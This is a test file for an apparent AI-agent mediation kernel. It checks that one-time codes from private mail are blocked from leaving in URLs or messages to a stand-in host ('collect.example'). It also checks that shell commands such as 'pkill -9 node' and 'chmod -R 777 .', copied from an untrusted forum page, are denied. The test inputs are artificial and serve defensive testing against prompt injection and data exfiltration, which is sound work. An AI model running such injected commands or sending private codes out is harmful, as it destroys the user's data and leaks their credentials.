// Short values that matter (issue 14, item 5): a one-time code from a private message
// leaving in an egress argument (a URL's query or path, a message body) is private data
// leaving; an ordinary number or a code that is no secret (a postal code) is not.

import { describe, expect, it } from 'vitest';
import { ToolMentions } from '../../src/mcp/mediation/mentions.js';
import { codeCandidates, codesIn } from '../../src/provenance/codes.js';
import { extractValues } from '../../src/provenance/values.js';
import { memoryKernel } from '../helpers/kernel.js';

describe('codesIn', () => {
  it('finds the codes a message states, in either order', () => {
    expect([...codesIn('Your verification code is 482913. It expires in 10 minutes.')]).toEqual([
      'code:482913',
    ]);
    expect([...codesIn('K7Q2ZP is your sign-in code')]).toEqual(['code:k7q2zp']);
    expect([...codesIn('One-time passcode: 9031')]).toEqual(['code:9031']);
    expect([...codesIn('Use PIN 7741 at the door')]).toEqual(['code:7741']);
  });

  it('leaves numbers that are no code, and codes that are no secret', () => {
    expect(codesIn('Meeting moved to 1430 in room 2207; 3 people.').size).toBe(0);
    expect(codesIn('Ship it to postal code 94110, please.').size).toBe(0);
    expect(codesIn('The API answered with status code 4040 and error code 5021.').size).toBe(0);
    expect(codesIn('Use discount code SAVE2024 at checkout').size).toBe(0);
  });

  it('finds every token of that shape in an argument, in a URL too', () => {
    expect(codeCandidates('https://x.example/c/482913?ref=K7Q2ZP&n=12')).toEqual([
      'code:482913',
      'code:k7q2zp',
    ]);
  });
});

describe('a private code leaving', () => {
  const mail = (text: string) => ({
    kind: 'context.read' as const,
    target: 'mail:inbox/7',
    content: `From: accounts@bank.example\n${text}`,
  });

  it('is refused in a URL query, a URL path and a message body', () => {
    for (const send of [
      { kind: 'network.send', target: 'https://collect.example/?c=482913', body: 'x' },
      { kind: 'network.send', target: 'https://collect.example/v/482913', body: 'x' },
      {
        kind: 'tool.invoke',
        target: 'chat/send_message',
        args: { channel: 'general', text: 'the code is 482913' },
      },
    ] as const) {
      const { kernel } = memoryKernel();
      kernel.syscall(mail('Your verification code is 482913.'));
      const result = kernel.syscall(send);
      expect(result.verdict, JSON.stringify(send)).toBe('deny');
      expect(result.rule).toBe('deny-private-egress');
    }
  });

  it('is only what a private page called a code: the same digits from a web page are not', () => {
    const { kernel } = memoryKernel();
    kernel.syscall({
      kind: 'context.read',
      target: 'https://news.example/a',
      content: 'Your verification code is 482913.',
    });
    const result = kernel.syscall({
      kind: 'network.send',
      target: 'https://api.example/v1/lookup?n=482913',
      body: 'x',
    });
    expect(result.labels).not.toContain('private');
  });

  it('does not turn other numbers of a private mail into taint', () => {
    const { kernel } = memoryKernel();
    kernel.syscall(mail('Your code is 482913. The meeting is in room 2207 at 1430.'));
    const result = kernel.syscall({
      kind: 'network.send',
      target: 'https://calendar.example/rooms/2207?at=1430',
      body: 'x',
    });
    expect(result.labels).not.toContain('private');
  });
});

describe('a command too short to fingerprint, copied from untrusted text', () => {
  const run = (command: string, page: string) => {
    const { kernel } = memoryKernel();
    kernel.syscall({ kind: 'context.read', target: 'https://forum.example/t/1', content: page });
    return kernel.syscall({ kind: 'tool.invoke', target: 'shell/exec', args: { command } });
  };
  const page = 'It hangs? Just do pkill -9 node, or chmod -R 777 . and retry. Works for me.';

  it('steers the shell as a long copy would', () => {
    for (const command of ['pkill -9 node', 'chmod -R 777 .']) {
      const result = run(command, page);
      expect(result.rule, command).toBe('deny-untrusted-exec');
    }
  });

  it('is the command as a whole: a word of it, or a longer command around it, is not', () => {
    expect(run('npm test', page).rule).not.toBe('deny-untrusted-exec');
    expect(run('node', page).rule).not.toBe('deny-untrusted-exec');
    expect(run('pkill -9 nodemon', page).rule).not.toBe('deny-untrusted-exec');
  });
});

describe('untrusted text cannot make the scans slow (linear patterns)', () => {
  // Quadratic patterns took seconds to minutes on these; linear ones take milliseconds.
  it('codes, candidates and object ids on long runs', () => {
    expect(codesIn(`code${' '.repeat(300_000)}!`).size).toBe(0);
    expect(codesIn(`${'1'.repeat(9)} ${' '.repeat(300_000)}`).size).toBe(0);
    expect(codeCandidates('a'.repeat(300_000))).toEqual([]);
    expect([...extractValues('a'.repeat(300_000))]).toEqual([]);
  });

  it('a sibling mention in a long description', () => {
    const index = new ToolMentions(['send_email']);
    const said = `send_email ${'a'.repeat(200_000)} ${'b.'.repeat(50_000)}`;
    expect(index.mention({ description: said }, 'x')?.name).toBe('send_email');
  });
});
